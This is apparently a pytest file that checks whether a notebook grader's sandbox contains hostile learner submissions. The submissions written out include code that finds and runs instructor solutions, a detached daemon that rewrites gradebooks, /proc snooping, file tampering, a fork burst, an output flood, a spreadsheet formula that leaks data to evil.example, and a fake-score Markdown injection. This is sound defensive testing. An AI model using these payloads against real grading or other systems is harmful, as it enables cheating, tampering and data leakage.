"""Hostile submissions, graded sandboxed: each is contained, earns nothing, and nothing outside its scratch folder
changes.

The submissions are made here, in a temporary folder (the course ships none of them): the shipped exercise 01
with the learner's cells left as shipped (it earns 0 by itself) and one attack added at the end:

* running the instructor's solution code, by four routes: ``os.listdir`` up from ``vnetlab.__file__`` and the
  working folder for a folder whose name starts with ``sol``; the editable install's ``direct_url.json``
  (``importlib.metadata``), after ``importlib.import_module("vnetlab.grading." + "instructor")``; a walk of the
  whole file system; the repository's real path, known in advance, with ``builtins.exec``;
* a daemon in a session of its own that keeps trying, for minutes, to rewrite the gradebook and another
  learner's answers file; ``/proc`` snooping for the grader's command line and paths to write to; writes,
  deletions and renames outside the scratch folder (the repository, the grader environment, the output folder,
  another submission, the machine's ``/tmp``); a connection to a port this test listens on at 127.0.0.1; 50
  forked processes; 64 MB printed;
* file names that are not UTF-8 or hold a line break, two submissions with the same ``LEARNER``, and learner ids
  that are a spreadsheet formula or Markdown with a fake score.

A control batch runs the solution runners, the daemon and the connection *without* a sandbox: there they score,
escape and connect, so the attacks are real and the sandboxed batch's zeros mean something.
"""
from __future__ import annotations

import csv
import hashlib
import os
import secrets
import signal
import socket
import sys
import threading
import time
from pathlib import Path

import pytest

import vnetlab.grading as g
from vnetlab.cli import main
from vnetlab.grading import answers as sidecar
from vnetlab.grading.sandbox import grader_env

sys.path.insert(0, str(Path(__file__).parent))
from grading_support import (EX1, MAX, learner, light, need_sandbox, notebook, processes_with,  # noqa: E402
                             record_for, save)

import nbformat  # noqa: E402

ROOT = Path(__file__).resolve().parents[1]
NO_WIDGET = MAX[EX1] - g.spec(EX1).question("q3").points  # a solution without the widget question's cells
RUN_SOLUTION = '''
import json as _json, os as _os
_found = []
def _run_solution(path):
    nb = _json.load(open(path))
    mark = "### BEGIN " + "SOL" + "UTION"
    for cell in nb["cells"]:
        src = "".join(cell["source"]) if isinstance(cell["source"], list) else cell["source"]
        if cell["cell_type"] == "code" and mark in src:
            %(run)s
    _found.append(path)
'''
ROUTES = {
    "by-listdir": '''
import vnetlab
starts = [_os.path.dirname(vnetlab.__file__), _os.getcwd()]
for start in starts:
    root = start
    while True:
        try:
            names = [n for n in _os.listdir(root) if n.startswith("sol")]
        except OSError:
            names = []
        for n in names:
            candidate = _os.path.join(root, n, "01-address-spaces.ipynb")
            if _os.path.exists(candidate) and not _found:
                _run_solution(candidate)
        if root == _os.path.dirname(root):
            break
        root = _os.path.dirname(root)
''',
    "by-import": '''
import importlib, importlib.metadata
instructor = importlib.import_module("vnetlab.grading." + "instructor")
roots = [_os.path.dirname(_os.path.dirname(_os.path.dirname(instructor.__file__)))]
try:
    url = _json.loads(importlib.metadata.distribution("vnetlab").read_text("direct_url.json") or "{}").get("url", "")
    roots.append(url.replace("file://", ""))
except Exception:
    pass
for root in roots:
    for n in (n for n in (_os.listdir(root) if _os.path.isdir(root) else []) if n.startswith("sol")):
        candidate = _os.path.join(root, n, "01-address-spaces.ipynb")
        if _os.path.exists(candidate) and not _found:
            _run_solution(candidate)
''',
    "by-walk": '''
import time as _time
_deadline = _time.monotonic() + 20
for top in ("/",):
    for here, dirs, files in _os.walk(top):
        dirs[:] = [d for d in dirs if _os.path.join(here, d) not in ("/proc", "/sys", "/dev", "/usr", "/lib",
                                                                     "/lib64", "/etc", "/bin", "/sbin")]
        if _time.monotonic() > _deadline or _found:
            break
        if "01-address-spaces.ipynb" in files:
            path = _os.path.join(here, "01-address-spaces.ipynb")
            if "BEGIN SOLUTION" in open(path).read():
                _run_solution(path)
''',
    "by-known-path": '''
import builtins
_path = %(solution)r
if _os.path.exists(_path):
    _run_solution(_path)
''',
}
DAEMON = '''
import subprocess, sys
code = r"""
import os, time
end = time.monotonic() + 600
while time.monotonic() < end:
    for target in %(targets)r:
        try:
            with open(target, "a") as f:
                f.write("daemon was here\\n")
        except OSError:
            pass
    time.sleep(0.5)
"""
subprocess.Popen([sys.executable, "-c", code, %(token)r], start_new_session=True, stdin=subprocess.DEVNULL,
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
'''
PROC_SNOOP = '''
import os, re
seen = set()
for pid in [p for p in os.listdir("/proc") if p.isdigit()] + ["self", str(os.getppid())]:
    for what in ("cmdline", "environ"):
        try:
            raw = open(f"/proc/{pid}/{what}", "rb").read().replace(b"\\0", b" ").decode(errors="replace")
        except OSError:
            continue
        seen.update(re.findall(r"/[^\\s=:'\\"]+", raw))
for path in sorted(seen):
    for target in (path, os.path.join(path, "snooped-%(token)s")):
        try:
            with open(target, "a") as f:
                f.write("snooped\\n")
        except OSError:
            pass
'''
WRITER = '''
import os, shutil
for path in %(create)r:
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "x") as f:
            f.write("written from a submission\\n")
    except OSError:
        pass
for path in %(change)r:
    for attempt in (lambda: open(path, "a").write("changed"), lambda: os.rename(path, path + ".moved"),
                    lambda: os.unlink(path), lambda: os.chmod(path, 0o777),
                    lambda: shutil.rmtree(os.path.dirname(path))):
        try:
            attempt()
        except OSError:
            pass
'''
NETWORK = '''
import socket
try:
    with socket.create_connection(("127.0.0.1", %(port)d), timeout=5) as s:
        s.sendall(b"hello from a submission")
except OSError as exc:
    print("no network:", exc)
'''
FORKS = '''
import os
for _ in range(50):
    if os.fork() == 0:
        os.execv("/bin/sh", ["/bin/sh", "-c", "sleep 600; :", %(token)r])
'''
FLOOD = '''
for _ in range(64):
    print("x" * 1_000_000)
'''
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
FAKE_SCORE = "mallory\\n\\n# 01-address-spaces · mallory\\n\\n- Score: **16 / 16**"


def hostile(who: str, attack: str):
    nb = learner(light(notebook("exercises", EX1)), who)
    nb.cells.append(nbformat.v4.new_code_cell(attack))
    return nb


def runner_attack(route: str, run: str = "get_ipython().run_cell(src)") -> str:
    return RUN_SOLUTION % {"run": run} + ROUTES[route] % {"solution": str(ROOT / "solutions" / f"{EX1}.ipynb")}


def tree(*roots: Path) -> dict[str, str]:
    """Every file under ``roots`` with a hash of its bytes and its mode (the trees compared before and after)."""
    found = {}
    for root in roots:
        for here, dirs, files in os.walk(root):
            dirs[:] = [d for d in dirs if d not in ("__pycache__", ".pytest_cache", ".hypothesis", ".git")]
            for name in files:
                path = Path(here) / name
                try:
                    found[str(path)] = hashlib.sha256(path.read_bytes()).hexdigest() + oct(path.stat().st_mode)
                except OSError as exc:
                    found[str(path)] = f"unreadable: {exc}"
    return found


class Listener:
    """A TCP port on 127.0.0.1 that records every connection made to it."""

    def __init__(self) -> None:
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(16)
        self.sock.settimeout(0.2)
        self.port, self.connections, self.stop = self.sock.getsockname()[1], [], False
        self.thread = threading.Thread(target=self.serve, daemon=True)
        self.thread.start()

    def serve(self) -> None:
        while not self.stop:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            self.connections.append(conn.recv(100))
            conn.close()

    def close(self) -> None:
        self.stop = True
        self.thread.join()
        self.sock.close()


def grade_cli(subs: Path, out: Path, *flags: str) -> int:
    return main(["grade", str(subs), "--out", str(out), "--timeout", "90", "--cell-timeout", "40", "--jobs", "2",
                 "--learner-from", "folder", "--no-progress", *flags])


def rows_of(out: Path) -> dict[str, dict]:
    with open(out / "gradebook.csv", newline="", encoding="utf-8") as f:
        return {Path(r["notebook"]).parent.name: r for r in csv.DictReader(f)}


@pytest.fixture(scope="module")
def hostile_batch(tmp_path_factory):
    need_sandbox()
    base = tmp_path_factory.mktemp("hostile")
    subs, out, canary = base / "subs", base / "out", base / "canary"
    token = f"vnetlab-hostile-{secrets.token_hex(6)}"
    canary.mkdir()
    (canary / "keep.txt").write_text("must not change\n")
    # an honest learner, whose notebook and answers file the attacks go after
    save(learner(light(notebook("solutions", EX1)), "honest"), subs / "honest" / f"{EX1}.ipynb")
    record_for(subs / "honest", "honest", EX1, "q3")
    # the previous run's reports, which the daemon tries to rewrite
    out.mkdir()
    (out / "gradebook.csv").write_text("learner,total\nhonest,16\n")
    env = grader_env().parent.parent
    victims = [str(out / "gradebook.csv"), str(subs / "honest" / sidecar.SIDECAR), str(canary / "keep.txt")]
    attacks = {route: runner_attack(route) for route in ROUTES}
    attacks["by-exec"] = runner_attack("by-known-path", "exec(src, get_ipython().user_ns)")
    attacks["daemon"] = DAEMON % {"targets": victims, "token": token}
    attacks["snooper"] = PROC_SNOOP % {"token": token}
    attacks["writer"] = WRITER % {
        "create": [str(p / f"written-{token}") for p in (ROOT / "solutions", ROOT, env, out, subs / "honest",
                                                          Path("/tmp"), Path.home(), canary)],
        "change": victims}  # files of this test only: were the sandbox broken, the repository would stay whole
    listener = Listener()
    attacks["network"] = NETWORK % {"port": listener.port}
    attacks["forks"] = FORKS % {"token": token}
    attacks["flood"] = FLOOD
    for who, attack in attacks.items():
        save(hostile(who, attack), subs / who / f"{EX1}.ipynb")
    # names and ids: not UTF-8, a line break, a duplicate id, a formula, Markdown with a fake score
    odd = os.fsencode(subs) + b"/caf\xe9/caf\xe9-" + EX1.encode() + b".ipynb"
    save(learner(light(notebook("solutions", EX1)), "odd"), Path(os.fsdecode(odd)))
    save(learner(light(notebook("solutions", EX1)), "newline"), subs / "new\nline" / f"{EX1}.ipynb")
    for folder in ("twin-a", "twin-b"):
        save(learner(light(notebook("exercises", EX1)), "twin"), subs / folder / f"{EX1}.ipynb")
    save(learner(light(notebook("exercises", EX1)), FORMULA.replace('"', '\\"')), subs / "formula" / f"{EX1}.ipynb")
    save(learner(light(notebook("exercises", EX1)), FAKE_SCORE), subs / "markdown" / f"{EX1}.ipynb")
    watched = (ROOT / "solutions", ROOT / "exercises", ROOT / "vnetlab", env, subs, canary)
    before = tree(*watched)
    tmp_before = set(os.listdir("/tmp"))
    import resource

    rss_before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    code = grade_cli(subs, out, "--learner-from", "notebook")
    rss_after = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    left = processes_with(token)
    time.sleep(2)  # a daemon that escaped would write within half a second
    gradebook = (out / "gradebook.csv").read_bytes()
    listener.close()
    return {"code": code, "out": out, "rows": rows_of(out), "before": before, "after": tree(*watched),
            "gradebook": gradebook, "left": left, "connections": listener.connections, "attacks": attacks,
            "tmp_new": {n for n in set(os.listdir("/tmp")) - tmp_before if token in n}, "token": token,
            "rss_growth_kb": rss_after - rss_before}


def test_every_attack_is_contained_and_earns_nothing(hostile_batch):
    rows = hostile_batch["rows"]
    assert hostile_batch["code"] == 0
    for who in hostile_batch["attacks"]:
        row = rows[who]
        assert float(row["total"]) == 0, (who, row)
        assert row["sandbox"] == "bubblewrap", row
    assert float(rows["honest"]["total"]) == MAX[EX1], rows["honest"]  # the q3 answer from its answers file


def test_nothing_outside_the_scratch_folders_changes(hostile_batch):
    before, after = hostile_batch["before"], hostile_batch["after"]
    assert {k for k in after if k not in before} == set(), "files appeared"
    assert {k for k in before if after.get(k) != before[k]} == set(), "files changed or went"
    assert hostile_batch["tmp_new"] == set()
    assert not list(Path.home().glob(f"written-{hostile_batch['token']}"))


def test_no_process_outlives_the_batch_and_the_reports_stay_as_written(hostile_batch):
    assert hostile_batch["left"] == []  # the daemon in its own session and the 50 forks died with their sandbox
    assert (hostile_batch["out"] / "gradebook.csv").read_bytes() == hostile_batch["gradebook"]
    assert b"daemon was here" not in hostile_batch["gradebook"]


def test_no_network(hostile_batch):
    assert hostile_batch["connections"] == []


def test_a_flood_of_output_is_capped_and_said(hostile_batch):
    row = hostile_batch["rows"]["flood"]
    assert "printed more than" in row["reason"], row
    assert hostile_batch["rss_growth_kb"] < 64_000  # 64 MB were printed; the grader never held them


def test_odd_names_duplicates_and_injected_ids_do_not_break_the_batch(hostile_batch):
    out, rows = hostile_batch["out"], hostile_batch["rows"]
    assert rows["caf\\xe9"]["status"] == "ok" and float(rows["caf\\xe9"]["total"]) == NO_WIDGET, rows["caf\\xe9"]
    assert "caf\\xe9-01-address-spaces.ipynb" in rows["caf\\xe9"]["notebook"]
    assert rows["new\\nline"]["status"] == "ok", rows
    assert rows["twin-a"]["status"] == rows["twin-b"]["status"] == "duplicate-learner"
    assert "twin-b" in rows["twin-a"]["reason"] and "twin-a" in rows["twin-b"]["reason"]
    assert len(list((out / "feedback").glob("twin-*.md"))) == 2  # nothing overwritten
    assert rows["formula"]["learner"].startswith("'=HYPERLINK"), rows["formula"]
    with open(out / "gradebook.csv", newline="", encoding="utf-8") as f:
        cells = [cell for line in csv.reader(f) for cell in line]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    texts = [p.read_text(encoding="utf-8") for p in (out / "feedback").glob("*.md")]
    faked = [t for t in texts if t.startswith("# 01-address-spaces · mallory")]
    assert len(faked) == 1, [t.splitlines()[0] for t in texts]
    lines = faked[0].splitlines()
    assert [line for line in lines if line.startswith("- Score:")] == ["- Score: **0 / 16**"]
    assert len([line for line in lines if line.startswith("# ")]) == 1  # the fake heading stayed inside the title


# --- the control: the same attacks without a sandbox -----------------------------------------------------------
def test_the_attacks_are_real_without_a_sandbox(tmp_path):
    need_sandbox()  # a meaningful control only where the sandboxed batch ran
    subs, out, canary = tmp_path / "subs", tmp_path / "out", tmp_path / "canary.txt"
    token = f"vnetlab-hostile-control-{secrets.token_hex(6)}"
    listener = Listener()
    for route in ("by-listdir", "by-import", "by-known-path"):  # not the walk: it would search this whole machine
        save(hostile(route, runner_attack(route)), subs / route / f"{EX1}.ipynb")
    save(hostile("daemon", DAEMON % {"targets": [str(canary)], "token": token}), subs / "daemon" / f"{EX1}.ipynb")
    save(hostile("network", NETWORK % {"port": listener.port}), subs / "network" / f"{EX1}.ipynb")
    try:
        assert grade_cli(subs, out, "--no-sandbox") == 0
        rows = rows_of(out)
        for route in ("by-listdir", "by-import", "by-known-path"):  # an editable install: solutions/ is next door
            assert float(rows[route]["total"]) == NO_WIDGET, (route, rows[route])
        assert rows["daemon"]["sandbox"].startswith("none")
        for _ in range(100):
            if canary.exists():
                break
            time.sleep(0.1)
        assert processes_with(token) and canary.exists()  # the daemon outlived the grader and wrote afterwards
        assert listener.connections == [b"hello from a submission"]
    finally:
        listener.close()
        for pid in processes_with(token):
            os.kill(pid, signal.SIGKILL)
